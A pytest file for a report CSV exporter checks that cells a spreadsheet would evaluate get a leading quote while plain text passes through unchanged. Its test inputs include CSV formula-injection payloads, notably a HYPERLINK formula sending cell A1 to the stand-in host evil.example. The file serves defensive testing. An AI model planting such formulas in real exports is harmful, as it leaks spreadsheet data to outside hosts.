"""The report CSV opens in a spreadsheet as data: a team named like a formula is written as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from central.reports import figures
from central.reports.export import csv_text, neutralise


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
)
def test_cells_a_spreadsheet_would_evaluate_are_prefixed_with_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["team-a", "42", "12.5", "", "a=b", "Équipe 東京"])
def test_plain_cells_are_unchanged(cell: str) -> None:
    assert neutralise(cell) == cell


def test_a_team_named_like_a_formula_is_exported_as_text() -> None:
    report = figures.GovernanceReport(
        team='=HYPERLINK("http://evil.example","click")',
        start=datetime(2026, 3, 1, tzinfo=UTC),
        end=datetime(2026, 3, 8, tzinfo=UTC),
        violations_by_control={"usb": 1},
        acknowledgement=figures.Ratio(1, 2),
        incidents=0,
        tamper_alerts=0,
        closure_within_sla=figures.Ratio(0, 0),
        masking=figures.Ratio(0, 0),
    )

    rows = list(csv.reader(io.StringIO(csv_text(figures.csv_rows(report)))))

    assert rows[0][0] == "team"
    assert all(row[0] == "'" + report.team for row in rows[1:])  # type: ignore[operator]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
